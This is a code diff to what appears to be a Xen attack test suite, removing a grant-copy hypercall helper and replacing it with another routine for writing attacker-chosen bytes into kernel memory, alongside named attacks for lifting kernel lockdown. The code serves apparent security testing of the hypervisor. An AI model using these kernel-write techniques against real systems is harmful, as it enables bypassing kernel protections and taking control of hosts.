@@ -6,8 +6,6 @@
  */
 #include "../rogue.h"
 
-#include <xen/grant_table.h>
-
 /*
  * U-KMEM-ZERO: lift the kernel's lockdown with sixteen zero bytes.
  *
@@ -95,26 +93,6 @@ static void write_by_console(uint64_t address, const char *bytes, size_t size)
 }
 
 /*
- * A grant copy needs no grant where source and destination are the caller's own
- * frames.
- */
-static void write_by_grant_copy(uint64_t address, const char *bytes,
-                                uint16_t size)
-{
-    char *source = buffer(PAGE_SIZE);
-    gnttab_copy_t copy = {
-        .source = { .u.gmfn = own_frame(source), .domid = DOMID_SELF },
-        .dest = { .u.gmfn = kernel_frame(address),
-                  .domid = DOMID_SELF,
-                  .offset = (uint16_t)(address % PAGE_SIZE) },
-        .len = size,
-    };
-
-    memcpy(source, bytes, size);
-    hypercall3(__HYPERVISOR_grant_table_op, GNTTABOP_copy, &copy, 1);
-}
-
-/*
  * U-KMEM-WRITE: the same with bytes of the attacker's choice.
  *
  * Three of the many operations that write what their caller controls: dom0's
@@ -137,7 +115,8 @@ ATTACK("U-KMEM-WRITE", "write chosen bytes to a kernel variable")
     if ( victim_has_mark() )
         strcat(text, " console read;");
 
-    write_by_grant_copy(address, new_mark(), MARK_SIZE);
+    copy_to_frame(kernel_frame(address), address % PAGE_SIZE, new_mark(),
+                  MARK_SIZE);
     if ( victim_has_mark() )
         strcat(text, " grant copy;");
 
